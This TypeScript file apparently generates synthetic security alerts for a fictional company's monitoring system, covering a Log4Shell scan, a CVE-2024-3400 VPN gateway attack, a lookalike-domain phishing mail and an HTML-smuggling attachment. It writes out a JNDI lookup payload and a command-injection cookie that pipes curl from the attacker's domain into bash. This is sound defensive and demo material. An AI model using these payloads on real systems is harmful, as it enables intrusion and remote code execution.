import { attacker, COMPANY, mailAddress, server } from '../organisation.ts';
import { type Detection, SENSORS, technique } from './scenario.ts';
import { externalFields, fileFields, hostFields, userFields } from './scene-fields.ts';

/** Attempts to get in: at what the company shows to the internet, and by mail. */
export const INTRUSION_SCENARIOS: readonly Detection[] = [
  {
    analytic: 'Exploit Patcher',
    detection: 'Log Library Lookup',
    weight: 7,
    technique: technique('T1190', 'Exploit Public-Facing Application', 'initialAccess'),
    category: ['intrusion_detection', 'web'],
    type: ['info'],
    sensor: SENSORS.ids,
    build: ({ random, attacker: from }) => {
      const host = server('mcm-web03');
      const payload = `\${jndi:ldap://${from.ip}:1389/${random.hex(6)}}`;
      return {
        message: `Lookup string for CVE-2021-44228 from ${from.ip} in a request to the customer portal`,
        outline: {
          threat: from.ip,
          target: host.name,
          indicators: [from.ip, 'CVE-2021-44228'],
          summary: 'Scan for an old hole; the portal is patched',
        },
        score: random.decimal(18, 40),
        severity: 4,
        action: 'alert',
        outcome: 'failure',
        fields: {
          host: hostFields(host),
          source: externalFields(from, random.integer(20_000, 60_000)),
          destination: { ip: host.ip, port: 443 },
          http: { request: { method: 'GET', referrer: payload }, response: { status_code: 403 } },
          user_agent: { original: payload },
          network: { direction: 'inbound', protocol: 'http', transport: 'tcp' },
          vulnerability: {
            id: 'CVE-2021-44228',
            description: 'Apache Log4j2 JNDI features do not protect against attacker controlled endpoints',
          },
          related: { hosts: [host.name], ip: [from.ip, host.ip] },
        },
        raw: {
          event_type: 'alert',
          src_ip: from.ip,
          dest_ip: host.ip,
          alert: { signature_id: 2034647, signature: 'Apache log4j RCE Attempt', severity: 1 },
          http: { http_user_agent: payload },
        },
      };
    },
  },
  {
    analytic: 'Exploit Patcher',
    detection: 'Gateway Command Injection',
    weight: 4,
    technique: technique('T1190', 'Exploit Public-Facing Application', 'initialAccess'),
    category: ['intrusion_detection', 'network'],
    type: ['info'],
    sensor: SENSORS.firewall,
    build: ({ random, attacker: from }) => {
      const host = server('mcm-vpn01');
      const cookie = `SESSID=/../../../opt/panlogs/tmp/device_telemetry/hour/a\`curl\${IFS}${from.domain}|bash\``;
      return {
        message: `Attempt at CVE-2024-3400 from ${from.ip} against the VPN gateway`,
        outline: {
          threat: from.ip,
          target: host.name,
          indicators: [from.ip, from.domain, 'CVE-2024-3400'],
          summary: 'Command injection by session cookie',
        },
        score: random.decimal(62, 86),
        severity: 8,
        action: 'reset-both',
        outcome: 'failure',
        fields: {
          host: hostFields(host),
          source: externalFields(from, random.integer(20_000, 60_000)),
          destination: { ip: host.ip, port: 443 },
          network: { direction: 'inbound', protocol: 'tls', transport: 'tcp' },
          http: { request: { method: 'POST', body: { content: cookie } } },
          vulnerability: {
            id: 'CVE-2024-3400',
            description: 'Arbitrary file creation leads to OS command injection in GlobalProtect',
          },
          related: { hosts: [host.name, from.domain], ip: [from.ip, host.ip] },
        },
        raw: {
          type: 'THREAT',
          subtype: 'vulnerability',
          threatid: 95187,
          src: from.ip,
          dst: host.ip,
          action: 'reset-both',
          cookie,
        },
      };
    },
  },
  {
    analytic: 'Phish Lens',
    detection: 'Lookalike Sender',
    weight: 9,
    technique: technique('T1566.002', 'Phishing: Spearphishing Link', 'initialAccess'),
    category: ['email'],
    type: ['info'],
    sensor: SENSORS.mail,
    build: ({ random, workstation: { owner } }) => {
      const from = attacker('maplecrest-benefits.example');
      const subject = random.pick([
        'Action required: benefits enrolment closes today',
        'Your payroll details could not be verified',
        'Updated hybrid work policy, please sign',
        'Voicemail from +1 514 555 0142',
      ]);
      return {
        message: `Mail "${subject}" to ${owner.name} from a domain that looks like ours`,
        outline: {
          threat: from.domain,
          target: mailAddress(owner),
          indicators: [from.domain, from.ip, subject],
          summary: `${from.domain} imitates ${COMPANY.domain}`,
        },
        score: random.decimal(34, 62),
        severity: 5,
        action: 'delivered',
        outcome: 'success',
        fields: {
          user: userFields(owner),
          source: externalFields(from, 25),
          email: {
            subject,
            from: { address: `hr@${from.domain}` },
            to: { address: mailAddress(owner) },
            direction: 'inbound',
            message_id: `<${random.hex(20)}@${from.domain}>`,
          },
          url: { full: `https://${from.domain}/enrol`, domain: from.domain, path: '/enrol', scheme: 'https' },
          related: { user: [owner.username], ip: [from.ip], hosts: [from.domain] },
        },
        raw: {
          Operation: 'TIMailData',
          Recipients: [mailAddress(owner)],
          P1Sender: `hr@${from.domain}`,
          Subject: subject,
          SenderIp: from.ip,
          DeliveryAction: 'Delivered',
        },
      };
    },
  },
  {
    analytic: 'Phish Lens',
    detection: 'Smuggled Attachment',
    weight: 6,
    technique: technique('T1027.006', 'Obfuscated Files or Information: HTML Smuggling', 'defenseEvasion'),
    category: ['email', 'malware'],
    type: ['info'],
    sensor: SENSORS.mail,
    build: ({ random, workstation: { owner }, attacker: from }) => {
      const name = random.pick(['Remittance_112026.html', 'Fax_0142.shtml', 'Contract_signed.htm']);
      const file = fileFields(name, random.integer(21_000, 380_000));
      const subject = name.replace(/[._]/g, ' ').replace(/ s?html?$/, '');
      return {
        message: `Attachment ${name} to ${owner.name} builds a ZIP archive in the browser`,
        outline: {
          threat: name,
          target: mailAddress(owner),
          indicators: [name, from.domain],
          summary: 'HTML attachment assembles an archive by script',
        },
        score: random.decimal(57, 80),
        severity: 6,
        action: 'quarantined',
        outcome: 'success',
        fields: {
          user: userFields(owner),
          source: externalFields(from, 25),
          file,
          email: {
            subject,
            from: { address: `billing@${from.domain}` },
            to: { address: mailAddress(owner) },
            direction: 'inbound',
            attachments: [{ file: { name, extension: file.extension, mime_type: 'text/html', size: file.size } }],
          },
          related: { user: [owner.username], ip: [from.ip], hosts: [from.domain] },
        },
        raw: {
          Operation: 'TIMailData',
          Recipients: [mailAddress(owner)],
          P1Sender: `billing@${from.domain}`,
          Subject: subject,
          AttachmentData: [{ FileName: name, FileType: file.extension }],
          DeliveryAction: 'Blocked',
        },
      };
    },
  },
];
